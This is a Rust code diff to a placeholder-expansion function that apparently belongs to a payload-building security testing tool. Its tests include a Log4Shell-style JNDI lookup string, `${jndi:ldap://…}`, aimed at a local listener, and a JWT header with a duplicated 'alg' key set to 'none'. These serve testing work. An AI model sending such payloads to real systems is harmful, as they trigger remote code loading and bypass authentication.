@@ -55,7 +55,9 @@ fn pieces(s: &str) -> Result<Vec<Piece<'_>>, String> {
         if next.is_none() && NAMES.iter().any(|(n, _)| *n == name) {
             return Err(format!("unclosed placeholder \"{{{name}\""));
         }
-        if name.is_empty() || !matches!(next, Some('}' | ':' | '|')) {
+        let known = NAMES.iter().any(|(n, _)| *n == name);
+        // `{unknown:…}` is literal text (`${jndi:ldap://…}`); `{unknown}` is a typo.
+        if name.is_empty() || !matches!(next, Some('}' | ':' | '|')) || (!known && next == Some(':')) {
             // Not a placeholder: keep the brace as text.
             out.push(Piece::Text(&rest[..=open]));
             rest = after;
@@ -219,6 +221,7 @@ mod tests {
         let raw = r#"{"alg":"RS256","alg":"none"}"#;
         assert_eq!(expand(raw, look).expect("x"), raw);
         assert_eq!(expand("{}", look).expect("x"), "{}");
+        assert_eq!(expand("${jndi:ldap://{listener:j|host_port}/a}", look).expect("x"), "${jndi:ldap://127.0.0.1:9/a}");
     }
 
     // Unknown names, filters and missing arguments are refused.
